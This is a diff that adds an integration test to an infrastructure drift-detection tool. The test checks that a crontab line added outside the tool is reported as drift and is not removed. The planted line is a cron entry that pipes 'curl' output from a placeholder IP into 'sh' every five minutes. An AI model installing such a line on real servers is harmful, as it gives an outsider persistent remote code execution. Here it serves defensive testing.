@@ -394,6 +394,28 @@ def test_every_grant_added_to_either_identity_is_named_by_drift_and_removed_by_o
     uploader.put_object(Bucket=BUCKET, Key=f"db/after-drift-{secrets.token_hex(3)}", Body=b"x", IfNoneMatch="*")
 
 
+def test_a_crontab_line_someone_else_added_is_listed_by_drift_and_never_removed(deployed: Deployed) -> None:
+    servers = deployed.servers
+    before = servers.crontab() or ""
+    planted = "*/5 * * * * curl -s http://203.0.113.9/x | sh"
+    servers.set_crontab(before + planted + "\n")
+
+    drift = deployed.stack.sfops("--json", "drift")
+    assert drift.returncode == 1, drift.stderr
+    (resource,) = json.loads(drift.stdout)["resources"]
+    assert resource["properties"] == ["other_crontab_lines"], resource
+    (change,) = resource["changes"]
+    assert planted in change["new"]
+    assert planted not in change["old"]
+    assert SOMEONE_ELSES_LINE.strip() in change["old"], "a line there before the install is no finding"
+
+    deployed.stack.stack.up(refresh=True, on_output=quiet)
+    assert planted in (servers.crontab() or ""), "listed, not removed"
+    assert deployed.stack.sfops("drift").returncode == 0, "accepted once refreshed into state"
+    servers.set_crontab(before)
+    deployed.stack.stack.refresh(on_output=quiet)
+
+
 def _has_key(iam: Any, user_name: str, key_id: str) -> bool:
     return any(k["AccessKeyId"] == key_id for k in iam.list_access_keys(UserName=user_name)["AccessKeyMetadata"])
 
